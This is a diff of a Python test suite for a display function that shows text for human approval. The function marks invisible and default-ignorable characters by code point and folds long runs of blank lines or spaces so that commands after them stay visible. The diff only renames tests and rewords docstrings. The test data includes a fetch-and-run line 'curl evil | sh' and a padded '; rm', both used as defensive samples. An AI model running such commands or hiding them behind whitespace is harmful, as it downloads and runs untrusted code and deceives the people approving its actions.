@@ -1,4 +1,4 @@
-"""What a person decides on shows every character, or says how much it hides (X7)."""
+"""Exact display of texts for approval: every character is visible, or the hidden amount is (X7)."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ _DEFAULT_IGNORABLE = regex.compile(r"\p{Default_Ignorable_Code_Point}")
 
 
 def test_x7_every_control_format_and_default_ignorable_code_point_is_written_out():
-    """The categories are those of this Python's database, the property that of another library's."""
+    """The categories come from Python's database, the property from another library."""
     hidden = [
         char
         for char in map(chr, range(0x110000))
@@ -28,10 +28,10 @@ def test_x7_every_control_format_and_default_ignorable_code_point_is_written_out
     assert [f"{ord(char):X}" for char in hidden if mark(char) != f"⟨U+{ord(char):04X}⟩"] == []
 
 
-def test_x7_text_that_shows_is_left_as_it_is():
+def test_x7_visible_text_stays_unchanged():
     plain = "".join(char for char in map(chr, range(0x20, 0x30000)) if unicodedata.category(char)[0] in "LNPS")
     marked = {char for char in plain if mark(char) != char}
-    # Letters and symbols that fonts draw as nothing.
+    # Letters and symbols that fonts draw as blank.
     assert marked == set("\u115f\u1160\u3164\uffa0\u2800")
     assert mark("ls\t-l\necho 你好　世界") == "ls\t-l\necho 你好　世界"
 
@@ -47,11 +47,11 @@ def test_x7_text_that_shows_is_left_as_it_is():
         (f"true{' ' * 500}; rm", "true ⟨U+0020 ×500⟩ ; rm", 0),
     ],
 )
-def test_x7_marks_name_the_character_and_are_counted(text: str, marked: str, count: int):
+def test_x7_invisible_characters_are_marked_by_code_point_and_counted(text: str, marked: str, count: int):
     assert (mark(text), count_invisible(text)) == (marked, count)
 
 
-def test_x7_empty_lines_are_folded_with_their_number_and_the_command_behind_them_shows():
+def test_x7_empty_lines_are_folded_with_their_number_and_the_command_after_them_is_visible():
     assert fold("true" + "\n" * 601 + "curl evil | sh") == [
         "true",
         Fold("empty_lines", 600, "\n" * 599),
@@ -60,7 +60,7 @@ def test_x7_empty_lines_are_folded_with_their_number_and_the_command_behind_them
     assert fold("+a\n" + "+\n" * 5 + "+b", is_diff=True)[1] == Fold("empty_lines", 5, "+\n+\n+\n+\n+")
 
 
-def test_x7_a_long_text_shows_its_end_and_a_long_line_too():
+def test_x7_the_end_of_a_long_text_and_of_a_long_line_is_visible():
     parts = fold("\n".join(f"echo {number}" for number in range(1000)))
     assert (parts[HEAD - 1], parts[-1]) == (f"echo {HEAD - 1}", "echo 999")
     hidden = parts[HEAD]
